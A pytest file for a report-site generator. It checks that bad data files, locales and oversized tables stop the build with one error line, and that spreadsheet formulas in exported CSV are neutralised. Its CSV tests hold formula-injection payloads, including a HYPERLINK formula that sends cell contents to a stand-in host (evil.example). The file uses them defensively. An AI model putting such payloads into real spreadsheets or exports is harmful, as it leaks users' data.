"""Data files and locales are untrusted input: formula cells in CSV, numbers out of range, empty charts, unknown
languages, misspelt placeholders, and inputs too large to build in reasonable time.

Most cases load a data file or the locales through the core and expect one `AlmanacError` line naming the
file, the line and the field; two build the small project with `make site`: one whose CSV files are opened
by spreadsheets and read back by frictionless, and bad inputs that must stop it with one line and no
traceback.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import textwrap
from pathlib import Path

import pytest

from almanac import csvcells, indicators, limits, locales, markers
from almanac.errors import AlmanacError
from tests.conftest import ROOT, make_mini_project, mkdocs_in_process
from tests.test_bad_input import edit
from tests.test_build import make_site

TEMPLATES = ROOT / "overrides" / "partials" / "almanac"
DATA = "data/indicators/demo-2024.yml"

BASE = textwrap.dedent("""\
    publication: demo-2024
    units:
      training:
        ru: {one: "тренинг", few: "тренинга", many: "тренингов", other: "тренинга"}
        en: {one: "training", other: "trainings"}
    groups:
      - id: g
        caption: {ru: "Обучение", en: "Training"}
        section: "Глава 1"
    indicators:
      - id: a
        group: g
        label:
          ru: "Проведено {value}"
          en: "{value} held"
        short: {ru: "Тренинги", en: "Trainings"}
        value: 4
        unit: training
        section: "Глава 1, п. 1"
        actuals: {2023: 1}
      - id: b
        group: g
        label: {ru: "Охват {number} %", en: "Coverage {number} %"}
        value: 80
        unit: percent
        section: "Глава 1, п. 2"
        baseline: 10
    charts:
      - id: c
        type: bar
        indicators: [a, b]
        title: {ru: "Цели", en: "Targets"}
        description: {ru: "Целевые значения", en: "Target values"}
    """)


def write(root: Path, text: str) -> Path:
    path = root / DATA
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def load(root: Path, text: str) -> indicators.Dataset:
    return indicators.load_dataset(write(root, text), root, {"demo-2024"})


def changed(old: str, new: str) -> str:
    assert old in BASE, f"BASE has no {old!r}: the test case is out of date"
    return BASE.replace(old, new, 1)


def many_indicators(count: int, groups: tuple[str, ...] = ("g",), head: str = BASE) -> str:
    """`head`'s units and groups, then `count` indicators taking `groups` in turn.

    One line each (flow style): 100,000 of them are 6 MB, which the size check lets through to the count."""
    items = "".join(f'  - {{id: i{n}, group: {groups[n % len(groups)]}, label: {{ru: "x"}}, section: s}}\n'
                    for n in range(count))
    return head.split("indicators:\n")[0] + "indicators:\n" + items


def test_the_base_data_file_is_valid(tmp_path):
    dataset = load(tmp_path, BASE)
    assert list(dataset.indicators) == ["a", "b"] and list(dataset.charts) == ["c"]


# (bad data file, the one line it must give)
BAD_DATA = [
    pytest.param(changed("value: 4", "value: 123456789012345678901234567890"),
                 f"{DATA}, line 17, 'value': expected a number of at most 15 significant digits, below 10^15 and with "
                 "at most 15 decimals (what a float holds exactly), got 123456789012345678901234567890.",
                 id="thirty-digit-value"),
    pytest.param(changed("value: 4", "value: 1234567890.1234567"), "line 17, 'value': expected a number of at most 15",
                 id="seventeen-significant-digits"),
    pytest.param(changed("value: 4", "value: 1.0e+20"), "line 17, 'value': expected a number of at most 15 significant "
                 "digits, below 10^15", id="too-large"),
    pytest.param(changed("value: 4", "value: 1.0e-20"), "line 17, 'value': expected a number of at most 15", id="too-small"),
    pytest.param(changed("value: 4", "value: [1, 123456789012345678901234567890]"),
                 "line 17, 'value': expected a number of at most 15", id="range-bound"),
    pytest.param(changed("actuals: {2023: 1}", "actuals: {2023: 123456789012345678901234567890}"),
                 "line 20, 'actuals': for 2023, expected a number of at most 15 significant digits", id="actual"),
    pytest.param(changed("baseline: 10", "baseline: 123456789012345678901234567890"),
                 "line 27, 'baseline': expected a number of at most 15 significant digits", id="baseline"),
    pytest.param(changed("indicators: [a, b]", "indicators: []"),
                 f"{DATA}, line 31, 'indicators': expected at least 1 indicator, got [].", id="chart-without-indicators"),
    pytest.param(changed("value: 4", "value: -4"), "line 31, 'indicators': 'a' is below zero (-4); a chart draws amounts "
                 "from zero.", id="chart-negative"),
    pytest.param(changed("value: 4", "value: 0").replace("value: 80", "value: 0"),
                 "line 31, 'indicators': every value is zero; a chart needs at least one above zero.", id="chart-all-zero"),
    pytest.param(changed('ru: "Проведено {value}"', 'ru: "Проведено {valeu}"'),
                 f"{DATA}, line 14, 'label': the 'ru' text has an unknown placeholder '{{valeu}}'; did you mean "
                 "'{value}'? expected '{value}' or '{number}'.", id="label-misspelt-placeholder"),
    pytest.param(changed('en: "{value} held"', 'en: "{Number} held"'),
                 "line 15, 'label': the 'en' text has an unknown placeholder '{Number}'; did you mean '{number}'?",
                 id="label-placeholder-line-of-its-language"),
    pytest.param(changed('{ru: "Охват {number} %"', '{ru: "Охват {число} %"'),
                 "line 23, 'label': the 'ru' text has an unknown placeholder '{число}'; expected '{value}' or '{number}'.",
                 id="label-placeholder-nothing-close"),
    pytest.param(changed('short: {ru: "Тренинги"', 'short: {ru: "Тренинги: {value}"'),
                 "line 16, 'short': the 'ru' text has '{value}', but this text takes no placeholders: it is shown as written.",
                 id="short-label-placeholder"),
    pytest.param(changed('caption: {ru: "Обучение"', 'caption: {ru: "Обучение {year}"'),
                 "line 8, 'caption': the 'ru' text has '{year}', but this text takes no placeholders", id="caption-placeholder"),
    pytest.param(changed('title: {ru: "Цели"', 'title: {ru: "Цели на {period}"'),
                 "line 32, 'title': the 'ru' text has '{period}', but this text takes no placeholders", id="chart-title"),
    pytest.param(changed('description: {ru: "Целевые значения"', 'description: {ru: "{value}"'),
                 "line 33, 'description': the 'ru' text has '{value}'", id="chart-description"),
    pytest.param(changed('en: {one: "training", other: "trainings"}', 'en: {one: "training", other: "{num} trainings"}'),
                 f"{DATA}, line 5, 'units.training.en.other': the form has an unknown placeholder '{{num}}'; did you mean "
                 "'{n}'? expected '{n}'.", id="unit-form-placeholder"),
    pytest.param(changed('en: {one: "training", other: "trainings"}', 'en: {one: "training", other: 2}'),
                 "line 5, 'units.training.en.other': expected text, got 2.", id="unit-form-not-text"),
    pytest.param(changed("indicators: [a, b]", f"indicators: [{', '.join(['a'] * 21)}]"),
                 f"{DATA}, line 31, 'indicators': the chart has 21 indicators; a chart shows at most 20 bars or slices "
                 "(see README, 'Limits').", id="chart-too-many-bars"),
    pytest.param(many_indicators(2_001),
                 f"{DATA}, line 7: group 'g' has 2001 indicators; a table shows at most 2000 (see README, 'Limits').",
                 id="group-over-the-table-limit"),
    pytest.param(many_indicators(100_000),
                 f"{DATA}, line 7: group 'g' has 100000 indicators; a table shows at most 2000, and the file's 100000 "
                 "indicators are more than the 5000 a data file holds (see README, 'Limits').",
                 id="group-of-100000-refused-before-parsing"),
    pytest.param(many_indicators(6_000, groups=("g", "h", "i", "j")),
                 f"{DATA}, line 1, 'indicators': the file has 6000 indicators; a data file holds at most 5000 "
                 "(see README, 'Limits').",
                 id="file-over-the-indicator-limit"),
    pytest.param(BASE + "#" * (limits.MAX_DATA_FILE_BYTES + 1) + "\n",
                 f"{DATA}, line 1: the file is 10.0 MB; a data file is at most 10 MB (see README, 'Limits').",
                 id="file-over-the-size-limit"),
]


@pytest.mark.parametrize("text, fragment", BAD_DATA)
def test_bad_data_is_one_line_naming_file_line_and_field(tmp_path, text, fragment):
    with pytest.raises(AlmanacError) as error:
        load(tmp_path, text)
    message = str(error.value)
    assert "\n" not in message
    assert fragment in message, message


def test_a_group_grown_through_yaml_aliases_is_counted_when_loaded(tmp_path):
    """The count before parsing cannot follow an alias; the loader counts again, so nothing gets through."""
    first = '  - {id: i0, group: &group g, label: {ru: "x"}, section: s}\n'
    items = first + "".join(f'  - {{id: i{n}, group: *group, label: {{ru: "x"}}, section: s}}\n'
                            for n in range(1, limits.MAX_TABLE_ROWS + 1))
    text = BASE.split("indicators:\n")[0] + "indicators:\n" + items
    limits.check_data_text(text, DATA)   # sees only the first indicator's group
    with pytest.raises(AlmanacError, match=r"line 7: group 'g' has 2001 indicators; a table shows at most 2000"):
        load(tmp_path, text)


def test_numbers_at_the_bound_are_shown_exactly(tmp_path):
    dataset = load(tmp_path, changed("value: 4", "value: 999999999999999").replace("value: 80", "value: 0.000000000000001"))
    fmt = indicators.Formatter(dataset, "en", locales.load(ROOT), [].append)
    assert fmt.number(dataset.indicators["a"].value) == "999,999,999,999,999"
    assert fmt.number(dataset.indicators["b"].value) == "0.000000000000001"
    assert indicators.raw_target(dataset.indicators["a"]) == "999999999999999"


# --- Locales -----------------------------------------------------------------------------------------------


# A locale file is edited in a folder of copies as a page is in a project: the same one-place edit.
locale_edit = edit


def line_of(name: str, text: str) -> int:
    return next(n for n, line in enumerate((ROOT / "locales" / name).read_text(encoding="utf-8").splitlines(), 1)
                if text in line)


BAD_LOCALES = [
    pytest.param(locale_edit("ru.yml", 'actual: "Факт {year}"', 'actual: "Факт {yaer}"'),
                 f"locales/ru.yml, line {line_of('ru.yml', 'actual: ')}, 'indicators.actual': unknown placeholder "
                 "'{yaer}'; did you mean '{year}'? expected one of: caption, end",
                 id="misspelt-in-the-default-language"),
    pytest.param(locale_edit("en.yml", "{year}", "{yaer}"),
                 f"locales/en.yml, line {line_of('en.yml', '{year}')}, 'indicators.actual': unknown placeholder '{{yaer}}'; "
                 "did you mean '{year}'? expected those of the ru label: '{year}'.",
                 id="misspelt-in-a-translation"),
    pytest.param(locale_edit("kk.yml", "{caption}", "{year}"),
                 f"locales/kk.yml, line {line_of('kk.yml', '{caption}')}, 'indicators.progress_title': unknown "
                 "placeholder '{year}'; expected those of the ru label: '{caption}'.",
                 id="a-translation-with-another-labels-placeholder"),
    pytest.param(locale_edit("en.yml", "{year}", "{year"),
                 f"locales/en.yml, line {line_of('en.yml', '{year}')}, 'indicators.actual': a lone '{{' or '}}'",
                 id="lone-brace"),
    pytest.param(locale_edit("en.yml", "{year}", "{}"),
                 "'indicators.actual': unknown placeholder '{}'", id="positional-placeholder"),
    pytest.param(lambda folder: shutil.copy(folder / "en.yml", folder / "xx.yml"),
                 "locales/xx.yml, line 1: expected the file to be named after a language Babel knows (a CLDR code such "
                 "as ru, en or kk: Babel writes the numbers, dates and plural forms), got 'xx'.",
                 id="locale-file-of-an-unknown-language"),
]


@pytest.mark.parametrize("break_it, fragment", BAD_LOCALES)
def test_bad_locale_is_one_line_naming_file_line_and_key(tmp_path, break_it, fragment):
    shutil.copytree(ROOT / "locales", tmp_path / "locales")
    break_it(tmp_path / "locales")
    with pytest.raises(AlmanacError) as error:
        locales.Locales(tmp_path / "locales", tmp_path)
    assert fragment in str(error.value), str(error.value)


def test_a_placeholder_a_label_is_not_given_is_one_line(tmp_path):
    loc = locales.Locales(ROOT / "locales", ROOT)
    with pytest.raises(AlmanacError) as error:
        loc.get("en", "indicators.actual", caption="x")
    assert str(error.value) == (f"locales/en.yml, line {line_of('en.yml', '{year}')}, 'indicators.actual': the label "
                                "has '{year}', but here it is given only '{caption}'.")


LANGUAGES_LISTED = (ROOT / "mkdocs.yml").read_text(encoding="utf-8").replace(
    "        - locale: kk\n", "        - locale: kk\n          build: true\n        - locale: xx\n", 1)
XX_LINE = LANGUAGES_LISTED.split("\n").index("        - locale: xx") + 1


@pytest.mark.parametrize("languages, fragment", [
    (["ru", "en", "xx"], f"mkdocs.yml, line {XX_LINE}, 'plugins.i18n.languages': expected a language Babel knows (a "
                         "CLDR code such as ru, en or kk: Babel writes the numbers, dates and plural forms), got 'xx'."),
    (["ru", "en-GB"], "mkdocs.yml, 'plugins.i18n.languages': expected a language Babel knows"),
])
def test_a_language_babel_does_not_know_names_its_line_in_mkdocs_yml(languages, fragment):
    with pytest.raises(AlmanacError) as error:
        locales.check_languages(languages, LANGUAGES_LISTED)
    assert fragment in str(error.value), str(error.value)


def test_the_real_languages_and_locales_pass():
    locales.check_languages(["ru", "en", "kk"], (ROOT / "mkdocs.yml").read_text(encoding="utf-8"))
    locales.Locales(ROOT / "locales", ROOT)


# --- CSV cells ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value, cell", [
    ("=HYPERLINK(\"https://evil.example/?\"&A1, \"x\")", "'=HYPERLINK(\"https://evil.example/?\"&A1, \"x\")"),
    ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("-5", "'-5"),
    ("Проведено 4 тренинга", "Проведено 4 тренинга"), ("1–3", "1–3"), ("", ""),
    (-5, "-5"), (0.5, "0.5"), (1234567, "1234567"), (1e-05, "0.00001"), (80.0, "80"), (None, ""), (True, "true"),
])
def test_a_text_cell_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers(value, cell):
    assert csvcells.cell(value) == cell


# --- Bounded work ------------------------------------------------------------------------------------------


def page_with_table(rows: int, fenced: bool = False) -> str:
    body = "\n".join(f"| {n} | Строка {n} |" for n in range(rows))
    table = f"| № | Текст |\n|---|:---:|\n{body}\n"
    return "# Глава\n\nТекст.\n\n" + (f"```\n{table}```\n" if fenced else table) + "\nКонец.\n"


@pytest.mark.parametrize("markdown, fragment", [
    (page_with_table(limits.MAX_TABLE_ROWS + 1), "content/x/01-a.md, line 7: the table has 2001 rows; a table shows at "
                                                 "most 2000 (see README, 'Limits')."),
    ("| a |\n|---|\n| 1 |\n\n" + page_with_table(limits.MAX_TABLE_ROWS + 1).replace("| № |", "№ |", 1).replace("|---|", "---|", 1),
     "content/x/01-a.md, line 11: the table has 2001 rows"),
])
def test_a_markdown_table_over_the_limit_is_refused_with_its_line(markdown, fragment):
    with pytest.raises(AlmanacError) as error:
        limits.check_page_tables(markdown, "content/x/01-a.md", first_line=3)
    assert str(error.value).startswith(fragment) or fragment in str(error.value), str(error.value)


@pytest.mark.parametrize("markdown", [page_with_table(limits.MAX_TABLE_ROWS), page_with_table(5_000, fenced=True),
                                      "a | b\n" * 5_000, "# T\n\n| a |\n|---|\n| 1 |\n"])
def test_tables_within_the_limit_code_and_text_with_pipes_pass(markdown):
    limits.check_page_tables(markdown, "content/x/01-a.md")


def test_a_table_reads_the_group_s_years_once_not_once_per_row(tmp_path, monkeypatch):
    """The table and its CSV were quadratic: each row recomputed the years of the whole group."""
    text = BASE.split("indicators:\n")[0] + "indicators:\n" + "".join(
        f'  - {{id: i{n}, group: g, label: {{ru: "Показатель {n}: {{value}}"}}, value: {n + 1}, unit: training, '
        f'section: s, actuals: {{2023: {n}}}}}\n' for n in range(300))
    dataset = load(tmp_path, text)
    reads = []
    years = indicators.Group.years
    monkeypatch.setattr(indicators.Group, "years", property(lambda group: reads.append(1) or years.fget(group)))
    renderer = markers.Renderer({"demo-2024": dataset}, locales.load(ROOT), "ru", TEMPLATES, None, [].append)
    expansion = renderer.expand('{{ indicators("demo-2024", group="g") }}\n', "content/x/01-a.md")
    assert expansion.markdown.count("<tr") == 301
    assert len(list(csv.reader(io.StringIO(expansion.downloads["demo-2024-g.ru.csv"])))) == 301
    assert len(reads) < 10, f"Group.years read {len(reads)} times for 300 rows"


def test_a_progress_chart_too_long_for_a_page_is_left_to_the_table(tmp_path):
    items = "".join(f'  - {{id: i{n}, group: g, label: {{ru: "П {n}"}}, value: 10, unit: none, section: s, '
                    f'actuals: {{2023: {n}}}}}\n' for n in range(limits.MAX_CHART_ITEMS + 1))
    dataset = load(tmp_path, BASE.split("indicators:\n")[0] + "indicators:\n" + items)
    # A font family is given, so a chart would be drawn if the group were within the limit.
    renderer = markers.Renderer({"demo-2024": dataset}, locales.load(ROOT), "ru", TEMPLATES, "PT Sans", [].append)
    html = renderer.expand('{{ indicators("demo-2024", group="g") }}\n', "content/x/01-a.md").markdown
    assert "almanac-chart" not in html and html.count("<tr") == limits.MAX_CHART_ITEMS + 2


# --- make site ---------------------------------------------------------------------------------------------

MINI_DATA = "data/indicators/demo-report-2023.yml"
MINI_TEXT = (ROOT / "tests/fixtures/mini-report.yml").read_text(encoding="utf-8")
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "click")', "+1", "-2+3", "@SUM(1)"]


@pytest.fixture(scope="module")
def mini(tmp_path_factory) -> Path:
    project = make_mini_project(tmp_path_factory.mktemp("data-input"))
    shutil.copy(ROOT / "Makefile", project / "Makefile")
    return project


def test_csv_files_neutralise_formulas_and_the_json_and_datapackage_keep_the_data(mini, tmp_path):
    from frictionless import Package, validate

    project = tmp_path / "project"
    shutil.copytree(mini, project)
    items = "".join(
        f"  - id: f{n}\n    group: results\n    label: {{ru: {json.dumps(text)}, en: {json.dumps(text)}, kk: {json.dumps(text)}}}\n"
        f"    value: {-5 if n == 0 else n}\n    unit: none\n    section: {json.dumps(text)}\n"
        for n, text in enumerate(FORMULAS))
    path = project / MINI_DATA
    path.write_text(path.read_text(encoding="utf-8") + items, encoding="utf-8")
    result = make_site(project)
    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    site = project / "site"

    files = sorted(site.rglob("*.csv"))
    assert len(files) >= 4, files     # the table's CSV in each language, and the open data
    for file in files:
        cells = [cell for row in csv.reader(file.open(encoding="utf-8")) for cell in row]
        for text in FORMULAS:
            assert "'" + text in cells, f"{file.relative_to(site)}: {text!r} not neutralised"
            assert text not in cells, f"{file.relative_to(site)}: {text!r} left as a formula"
        assert not [cell for cell in cells if cell.startswith(csvcells.FORMULA_STARTS) and cell != "-5"], file
    table = list(csv.DictReader((site / "assets/data/demo-report-2023-results.ru.csv").open(encoding="utf-8")))
    assert table[2]["Целевое значение"] == "-5", "a negative target is a number, not a neutralised text"

    records = json.loads((site / "data/demo-report-2023/indicators.json").read_text(encoding="utf-8"))
    by_id = {record["id"]: record for record in records}
    for n, text in enumerate(FORMULAS):
        assert by_id[f"f{n}"]["label_en"] == text and by_id[f"f{n}"]["section"] == text
    descriptor = site / "data/demo-report-2023/datapackage.json"
    report = validate(str(descriptor))
    assert report.valid, report.flatten(["type", "note"])[:5]
    rows = {row["id"]: row for row in Package(str(descriptor)).get_resource("indicators").read_rows()}
    assert rows["f0"]["target_low"] == -5 and rows["f2"]["label_ru"] == "'-2+3"


E2E = [
    pytest.param(lambda p: _edit(p / MINI_DATA, "value: 12", "value: 123456789012345678901234567890"),
                 rf"{MINI_DATA}, line 16, 'value': expected a number of at most 15 significant digits", id="thirty-digits"),
    pytest.param(lambda p: _edit(p / MINI_DATA, 'ru: "Проведено {value}"', 'ru: "Проведено {valeu}"'),
                 rf"{MINI_DATA}, line 15, 'label': the 'ru' text has an unknown placeholder '\{{valeu\}}'; did you mean "
                 r"'\{value\}'\?", id="misspelt-placeholder"),
    pytest.param(lambda p: (p / MINI_DATA).write_text((p / MINI_DATA).read_text(encoding="utf-8") + textwrap.dedent("""\
                     charts:
                       - id: empty
                         type: pie
                         indicators: []
                         title: {ru: "Т", en: "T", kk: "Т"}
                         description: {ru: "О", en: "D", kk: "С"}
                     """), encoding="utf-8"),
                 rf"{MINI_DATA}, line 32, 'indicators': expected at least 1 indicator, got \[\]", id="chart-without-indicators"),
    pytest.param(lambda p: _edit(p / "mkdocs.yml", "        - locale: kk\n", "        - locale: xx\n"),
                 r"mkdocs.yml, line \d+, 'plugins.i18n.languages': expected a language Babel knows .*got 'xx'",
                 id="unknown-language"),
    pytest.param(lambda p: _edit(p / "locales/en.yml", "{year}", "{yaer}"),
                 r"locales/en.yml, line \d+, 'indicators.actual': unknown placeholder '\{yaer\}'; did you mean '\{year\}'",
                 id="misspelt-locale-placeholder"),
    pytest.param(lambda p: (p / MINI_DATA).write_text(many_indicators(100_000, ("results",), MINI_TEXT), encoding="utf-8"),
                 rf"{MINI_DATA}, line 9: group 'results' has 100000 indicators; a table shows at most 2000",
                 id="group-of-100000"),
]


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"{path.name} has no {old!r}: the test case is out of date"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.mark.parametrize("break_it, expected", E2E)
def test_the_build_stops_with_one_line_and_no_traceback(mini, tmp_path, break_it, expected):
    project = tmp_path / "project"
    shutil.copytree(mini, project)
    break_it(project)
    # MkDocs' own command line, in this process (conftest.mkdocs_in_process); `make site`'s guarantees are
    # checked end to end in tests/test_bad_input.py.
    result = mkdocs_in_process(project, project / "site")
    output = result.output
    assert result.returncode != 0, output[-2000:]
    assert "Traceback" not in output, output[-3000:]
    matching = [line for line in output.splitlines() if re.search(expected, line)]
    assert len(matching) == 1, f"expected one line matching {expected!r}, got:\n{output[-2000:]}"
    assert matching[0].startswith("ERROR"), matching[0]
